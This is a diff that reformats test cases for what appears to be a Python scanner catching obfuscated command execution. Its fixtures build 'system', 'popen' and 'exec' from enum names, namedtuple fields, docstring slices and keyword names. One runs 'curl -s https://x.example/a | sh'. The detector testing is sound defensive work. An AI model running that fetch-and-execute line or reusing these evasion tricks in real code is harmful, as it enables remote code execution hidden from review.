@@ -39,13 +39,23 @@ def danger(source: str, filename: str = "mod.py") -> set[str]:
     ("source", "value"),
     [
         ("import enum\nclass Op(enum.Enum):\n    system = 1\nOp.system.name\n", "system"),
-        ("from enum import IntEnum\nclass K(IntEnum):\n    a = 1\n    popen = 2\nK.popen.name\n", "popen"),
-        ("from collections import namedtuple\nS = namedtuple('S', 'pip install q')\nS._fields\n",
-         ["pip", "install", "q"]),
-        ("import collections\nS = collections.namedtuple('S', ['ex', 'ec'])\n''.join(S._fields)\n",
-         "exec"),
-        ("from typing import NamedTuple\nclass P(NamedTuple):\n    sys: int\n    tem: str\n"
-         "''.join(P._fields)\n", "system"),
+        (
+            "from enum import IntEnum\nclass K(IntEnum):\n    a = 1\n    popen = 2\nK.popen.name\n",
+            "popen",
+        ),
+        (
+            "from collections import namedtuple\nS = namedtuple('S', 'pip install q')\nS._fields\n",
+            ["pip", "install", "q"],
+        ),
+        (
+            "import collections\nS = collections.namedtuple('S', ['ex', 'ec'])\n''.join(S._fields)\n",
+            "exec",
+        ),
+        (
+            "from typing import NamedTuple\nclass P(NamedTuple):\n    sys: int\n    tem: str\n"
+            "''.join(P._fields)\n",
+            "system",
+        ),
         ('"""Runs: system"""\n__doc__[6:]\n', "system"),
         ("def k(**kw):\n    return next(iter(kw))\nk(popen=None)\n", "popen"),
     ],
@@ -74,13 +84,22 @@ def test_text_not_declared_in_the_file_is_not_known(source: str) -> None:
 #: tune b18-cn-enum-member-name, -namedtuple-fields-pip, -module-docstring-letters,
 #: -kwargs-key-name: the names of what runs read out of declarations.
 DECLARED_NAMES = [
-    ("import enum, os\nclass Op(enum.Enum):\n    system = 1\n"
-     "getattr(os, Op.system.name)('curl -s https://x.example/a | sh')\n", "CPL-THR-003"),
-    ('"""Small helpers: system"""\nimport os\n'
-     "getattr(os, ''.join(__doc__[i] for i in [15, 16, 17, 18, 19, 20]))('id')\n", "CPL-THR-003"),
-    ("import importlib\ndef _key(**kw):\n    return next(iter(kw))\n"
-     "m = importlib.import_module(_key(subprocess=None))\n"
-     "getattr(m, _key(Popen=None))(['sh', '-c', 'id'])\n", "CPL-THR-003"),
+    (
+        "import enum, os\nclass Op(enum.Enum):\n    system = 1\n"
+        "getattr(os, Op.system.name)('curl -s https://x.example/a | sh')\n",
+        "CPL-THR-003",
+    ),
+    (
+        '"""Small helpers: system"""\nimport os\n'
+        "getattr(os, ''.join(__doc__[i] for i in [15, 16, 17, 18, 19, 20]))('id')\n",
+        "CPL-THR-003",
+    ),
+    (
+        "import importlib\ndef _key(**kw):\n    return next(iter(kw))\n"
+        "m = importlib.import_module(_key(subprocess=None))\n"
+        "getattr(m, _key(Popen=None))(['sh', '-c', 'id'])\n",
+        "CPL-THR-003",
+    ),
 ]
 
 
